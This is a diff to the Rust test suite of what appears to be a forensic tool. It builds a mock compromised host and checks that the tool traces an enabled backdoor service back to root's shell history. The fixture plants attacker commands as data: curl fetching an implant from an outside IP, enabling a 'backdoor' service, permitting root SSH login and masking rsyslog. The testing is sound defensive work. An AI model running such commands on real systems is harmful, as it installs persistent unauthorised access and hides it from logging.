@@ -147,6 +147,12 @@ fn machine() -> Option<PathBuf> {
         "[Service]\nExecStart=\nExecStart=/usr/sbin/sshd -D -o PermitRootLogin=yes\n",
         0o644,
     );
+    write(
+        &root,
+        "/root/.bash_history",
+        "#1796132264\ncurl -so /tmp/.x/implant http://203.0.113.9/i\n#1796132270\nsystemctl enable --now backdoor\n",
+        0o600,
+    );
     link(&root, "/etc/systemd/system/rsyslog.service", "/dev/null");
     write(
         &root,
@@ -269,6 +275,11 @@ fn service_states_are_what_systemctl_says() {
         .filter_map(|x| x.path.as_deref())
         .collect();
     assert!(found.contains(&"/tmp/.x/implant"), "{found:?}");
+    // Who enabled it: root's shell history, with its time.
+    let by = b.created_by.as_ref().unwrap();
+    assert_eq!(by.user.as_deref(), Some("root"));
+    assert_eq!(by.when.unwrap().to_string(), "2026-12-01T13:37:50Z");
+    assert_eq!(by.evidence[0].kind, "systemctl_enable");
     let ssh = by_name(&r, "ssh.service");
     assert!(ssh
         .service
